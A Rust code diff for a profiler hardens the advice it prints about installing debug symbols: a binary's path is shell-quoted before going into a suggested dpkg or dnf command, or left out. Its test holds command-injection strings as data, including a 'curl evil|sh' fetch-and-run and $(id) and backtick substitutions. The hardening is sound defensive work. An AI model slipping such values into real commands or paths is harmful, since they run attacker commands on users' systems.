@@ -7,6 +7,7 @@ use super::sequences;
 use super::symbols::{SymbolSource, Symbols};
 use super::text::TextIndex;
 use crate::target_file::{OpenError, Root, TargetFile};
+use profiler_core::text::shell_word;
 use std::ops::Range;
 use std::os::unix::fs::MetadataExt;
 use std::path::{Path, PathBuf};
@@ -247,20 +248,7 @@ impl Module {
         };
         let release = self.root.as_deref().and_then(read);
         let release = release.or_else(|| read(&Root::own().ok()?)).unwrap_or_default();
-        let is = |id: &str| release.lines().any(|l| l.starts_with("ID") && l.contains(id));
-        if is("debian") || is("ubuntu") {
-            if self.name.starts_with("libc.so") || self.name.starts_with("ld-linux") {
-                return "install its symbols: `sudo apt install libc6-dbg`".to_owned();
-            }
-            return format!(
-                "install the -dbgsym (or -dbg) package of what `dpkg -S {}` names, or use an unstripped build",
-                self.path.display()
-            );
-        }
-        if is("fedora") || is("rhel") || is("centos") {
-            return format!("install its symbols: `sudo dnf debuginfo-install {}`", self.path.display());
-        }
-        "install its debug package, or use an unstripped build".to_owned()
+        package_of_symbols(&release, &self.name, &self.path)
     }
 
     /// The separate debug file: by build id, else by `.gnu_debuglink`, in the target's root and in ours.
@@ -293,6 +281,27 @@ impl Module {
     }
 }
 
+/// What to install, by the text of an `os-release`. A path that no command can hold is not put into one.
+fn package_of_symbols(release: &str, name: &str, path: &Path) -> String {
+    let is = |id: &str| release.lines().any(|l| l.starts_with("ID") && l.contains(id));
+    let path = path.to_str().and_then(shell_word);
+    if is("debian") || is("ubuntu") {
+        if name.starts_with("libc.so") || name.starts_with("ld-linux") {
+            return "install its symbols: `sudo apt install libc6-dbg`".to_owned();
+        }
+        if let Some(path) = path {
+            return format!(
+                "install the -dbgsym (or -dbg) package of what `dpkg -S {path}` names, or use an unstripped build"
+            );
+        }
+    } else if (is("fedora") || is("rhel") || is("centos"))
+        && let Some(path) = path
+    {
+        return format!("install its symbols: `sudo dnf debuginfo-install {path}`");
+    }
+    "install its debug package, or use an unstripped build".to_owned()
+}
+
 /// Opens the file of a mapping: by the mapping, or, without the capability for that, by its name and inode.
 fn open(pid: u32, root: Option<&Root>, map: &Mapping) -> Result<TargetFile, OpenError> {
     let path = path_of(map);
@@ -307,5 +316,24 @@ fn open(pid: u32, root: Option<&Root>, map: &Mapping) -> Result<TargetFile, Open
         Ok(file)
     } else {
         Err(OpenError::Replaced { path: path.to_owned() })
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_path_is_no_command() {
+        let remedy = |release, path| package_of_symbols(release, "x", Path::new(path));
+        let (debian, fedora) = ("NAME=x\nID=debian\n", "ID=fedora\n");
+        assert!(remedy(debian, "/opt/x").contains("`dpkg -S /opt/x`"));
+        assert!(remedy(debian, "/opt/x;curl evil|sh").contains("`dpkg -S '/opt/x;curl evil|sh'`"));
+        assert!(remedy(fedora, "/o'$(id)").ends_with(r"debuginfo-install '/o'\''$(id)'`"));
+        for release in [debian, fedora] {
+            for path in ["/opt/x`id`", "/opt/\x1bx", "/opt/\u{202e}x"] {
+                assert_eq!(remedy(release, path), "install its debug package, or use an unstripped build");
+            }
+        }
     }
 }
